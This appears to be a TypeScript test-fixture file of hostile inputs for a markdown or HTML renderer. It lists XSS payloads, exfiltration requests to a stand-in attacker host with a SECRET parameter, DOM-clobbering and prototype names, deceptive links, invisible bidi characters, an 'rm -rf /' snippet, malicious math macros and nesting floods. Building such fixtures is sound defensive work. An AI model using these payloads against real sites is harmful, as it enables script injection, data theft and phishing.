import { EVIL_HOST } from './attack-addresses.ts'

const EVIL = `https://${EVIL_HOST}/p.png?q=SECRET`

/** Markup that a browser would obey. */
const rawHtml: readonly string[] = [
  '<script>alert(1)</script>',
  `<script src="${EVIL}"></script>`,
  `<ScRiPt src=${EVIL}>`,
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<img src=x onerror=alert(1)>',
  '<img/src/onerror=alert(1)>',
  `<img srcset="${EVIL} 1x">`,
  `<img src="${EVIL}`,
  `<img src='${EVIL}&`,
  '<svg onload=alert(1)>',
  `<svg><image href="${EVIL}"/></svg>`,
  `<svg><use xlink:href="${EVIL}#a"/></svg>`,
  '<svg><style><img src=x onerror=alert(1)></style>',
  '<svg><a xlink:href="javascript:alert(1)"><text y="9">x</text></a></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<math><maction actiontype="statusline" xlink:href="javascript:alert(1)">x</maction></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<template><img src=x onerror=alert(1)></template>',
  `<style>@import "${EVIL}";</style>`,
  `<style>*{background:url(${EVIL})}</style>`,
  `<link rel="stylesheet" href="${EVIL}">`,
  `<link rel="preload" as="image" href="${EVIL}">`,
  `<link rel="dns-prefetch" href="//${EVIL_HOST}">`,
  `<base href="https://${EVIL_HOST}/">`,
  `<meta http-equiv="refresh" content="0;url=${EVIL}">`,
  '<iframe src="javascript:alert(1)"></iframe>',
  `<iframe srcdoc="<img src='${EVIL}'>"></iframe>`,
  `<object data="${EVIL}"></object>`,
  `<embed src="${EVIL}">`,
  `<form action="${EVIL}"><input name="q" autofocus onfocus=alert(1)></form>`,
  `<input type="image" src="${EVIL}">`,
  `<button formaction="javascript:alert(1)">x</button>`,
  `<video poster="${EVIL}"><source src="${EVIL}"></video>`,
  `<audio src="${EVIL}" autoplay>`,
  `<picture><source srcset="${EVIL}"><img></picture>`,
  `<table background="${EVIL}"><tr><td background="${EVIL}">x`,
  `<body background="${EVIL}" onload=alert(1)>`,
  `<div style="background:url(${EVIL})">x</div>`,
  '<div style="position:fixed;inset:0" class="fixed inset-0 z-50">x</div>',
  '<a href="javascript:alert(1)" onmouseover=alert(1)>x</a>',
  `<a href="/own" ping="${EVIL}" download>x</a>`,
  '<details open ontoggle=alert(1)><summary>x</summary></details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<x-element onclick=alert(1) tabindex=1>x</x-element>',
  `<!--><img src="${EVIL}">-->`,
  `<!-- --!><img src="${EVIL}"> -->`,
  `<![CDATA[><img src="${EVIL}">]]>`,
  `<?xml-stylesheet href="${EVIL}"?>`,
  `<!DOCTYPE x [<!ENTITY x SYSTEM "${EVIL}">]>`,
  `<title><img src="${EVIL}"></title>`,
  `<textarea></textarea><img src="${EVIL}">`,
  `<br onload=alert(1)><br/ onclick=alert(1)>`,
  `> <div>\n> <img src="${EVIL}">\n\n- <iframe src="${EVIL}">`,
  `\`\`\`html\n<img src="${EVIL}" onerror="alert(1)">\n\`\`\``,
]

/** Names that an element or an object has already. */
const names: readonly string[] = [
  '<div id="getElementById">x</div>',
  '<img name="body"><form id="cookie"><input name="attributes"></form>',
  '# location\n\n## constructor\n\n### __proto__\n',
  'a[^__proto__] b[^constructor] c[^toString]\n\n[^__proto__]: 1\n\n[^constructor]: 2\n\n[^toString]: 3\n',
  '[__proto__] [constructor] [hasOwnProperty]\n\n[__proto__]: /own\n[constructor]: /own\n',
  '```__proto__\nx\n```\n\n```constructor\nx\n```\n',
  '```fixed inset-0" onload="alert(1)\nx\n```\n',
  '```ts" class="fixed\nx\n```\n',
  '`location` &lt;img src=x onerror=alert(1)&gt;\n',
]

/** Hosts that look like another one, and addresses that carry a name. */
const hosts: readonly string[] = [
  '[example.com](https://example.com@evil.example/)',
  '[example.com](https://user:password@evil.example/)',
  '[example.com](https://evil.example/)',
  '[https://example.com/login](https://evil.example/login)',
  '[www.exаmple.com](https://exаmple.com/)',
  '[x](https://xn--exmple-4nf.com/)',
  '[x](https://еxample.com)',
  '[example.com\u202E/moc.live](https://evil.example/)',
  '[ex\u200Bample.com](https://evil.example/)',
  '[example․com](https://evil.example/)',
  '[x](https://example.com.evil.example/)',
  '[x](https://example.com\\@evil.example/)',
  '[x](https:evil.example)',
  '[x](https:///evil.example/)',
  '[x](/\\evil.example/)',
  '[x](https://0x7f.1/)',
  '[x](https://①②⑦.0.0.1/)',
  '[bank@example.com](mailto:thief@evil.example)',
  '[x](mailto:a@evil.example?body=SECRET)',
  'https://example.com@evil.example/ and <https://example.com@evil.example/>',
  '![x](https://user:password@evil.example/p.png)',
  '[goo**gle**.com](https://evil.example/)',
]

/** Characters that turn the text around or that nobody sees. */
const invisible: readonly string[] = [
  '`a\u202Eb\u202C` [a\u2066b\u2069](https://example.com)',
  '```ts\n/*\u202E } \u2066if (isAdmin)\u2069 \u2066 begin */\n```\n',
  '```sh\nrm\u200B -rf \u2060/ \u001B[2J\u0007\n```\n',
  '[safe\u{E0041}\u{E0042}\u{E0043}](https://example.com "ti\u202Etle")',
  '![alt\u202Etxet](https://evil.example/p.png)',
  'Text \u202Ethat turns\u202C and \u2067isolates\u2069, a\u00ADb, \uFEFF.',
  '`\u{E0001}\u{E0069}\u{E0067}\u{E006E}\u{E006F}\u{E0072}\u{E0065}`',
  '`a\uFE0Fb\u{E0100}\u180E\u3164\u115F`',
  '[مرحبا](https://example.com) and [\u202Eabc](https://example.com)',
  '\u0000\u0001\u0008\u000B\u000C\u000E\u001F\u007F\u0085\u2028\u2029',
]

/** Formulas that are programs. */
const formulas: readonly string[] = [
  '$\\href{javascript:alert(1)}{x}$\n',
  `$\\includegraphics{${EVIL}}$\n`,
  `$\\url{${EVIL}}$\n`,
  '$\\htmlData{a=b}{x}\\htmlId{location}{x}\\htmlClass{fixed}{x}\\htmlStyle{color:red}{x}$\n',
  '$\\def\\a{\\a\\a}\\a$\n',
  '$\\def\\a#1{#1#1#1#1}\\a{\\a{\\a{\\a{\\a{\\a{x}}}}}}$\n',
  '$\\rule{1000000em}{1000000em}$\n',
  '$\\text{<img src=x onerror=alert(1)>}$\n',
  '$$\n\\unicode{x3C}script\\unicode{x3E}\n$$\n',
  `$${'{'.repeat(300)}x${'}'.repeat(300)}$\n`,
  `$${'\\frac{1}{'.repeat(60)}x${'}'.repeat(60)}$\n`,
  '$\\@ifnextchar{a}{b}{c}\\newcommand{\\frac}{x}\\frac$ $\\frac{1}{2}$\n',
]

const FLOOD_CHARS = 1_200

function flood(piece: string): string {
  return piece.repeat(Math.ceil(FLOOD_CHARS / piece.length))
}

/** Nested far deeper than anybody reads. */
const deep: readonly string[] = [
  `${flood('> ')}x`,
  `${flood('- ')}x`,
  `${flood('1. ')}x`,
  `${flood('> - ')}x`,
  `${flood('[')}x${flood(']')}`,
  `${flood('![')}x`,
  flood('[x]('),
  `${Array.from({ length: 40 }, (_, depth) => `${' '.repeat(2 * depth)}- x`).join('\n')}\n`,
  `${flood('*_')}x${flood('_*')}`,
  flood('<div>'),
]

/** Marks without an end. */
const floods: readonly string[] = [
  flood('**x '),
  flood('*x_y '),
  flood('~~x '),
  flood('_x*y '),
  flood('`x``'),
  flood('\\`'),
  flood('$x '),
  flood('&'),
  flood('<x'),
  flood('a@b.c '),
  flood('https://a.b '),
  flood('[^1]'),
  `${flood('[x] ')}\n\n[x]: /own\n`,
  Array.from({ length: 60 }, (_, index) => `[r${index}]: /own${index}\n`).join(''),
  Array.from({ length: 60 }, (_, index) => `[^${index}]: x[^${index + 1}]\n`).join(''),
]

const hugeTables: readonly string[] = [
  `|${'a|'.repeat(120)}\n|${'-|'.repeat(120)}\n|${'b|'.repeat(120)}\n`,
  `|a|b|\n|-|-|\n${'|c|d|\n'.repeat(180)}`,
  `|${'a|'.repeat(60)}\n|${'-|'.repeat(60)}\n${'|x\n'.repeat(60)}`,
]

/** The attacks that are no addresses, by their kind. */
export const otherAttacks = {
  'raw HTML': rawHtml,
  'names that are taken': names,
  'hosts that deceive': hosts,
  'invisible characters': invisible,
  formulas,
  'deep nesting': deep,
  floods,
  'huge tables': hugeTables,
} as const satisfies Readonly<Record<string, readonly string[]>>
